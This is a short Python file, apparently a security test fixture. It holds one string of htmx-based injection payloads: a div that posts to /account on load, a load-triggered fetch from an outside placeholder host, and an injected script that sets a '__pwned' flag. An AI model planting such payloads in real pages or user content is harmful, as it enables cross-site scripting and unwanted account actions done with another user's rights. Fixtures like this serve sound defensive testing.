"""Attributes that htmx would act upon with the mentor's rights."""

PRINTS = (
    "<div hx-post='/account' hx-trigger='load' hx-vals='{\"name\":\"x\"}'></div><div "
    "hx-get='http://elsewhere.invalid/hx' hx-trigger='load'></div><hx-partial "
    "hx-target='body'><script>window.__pwned=1</script></hx-partial>\n"
)
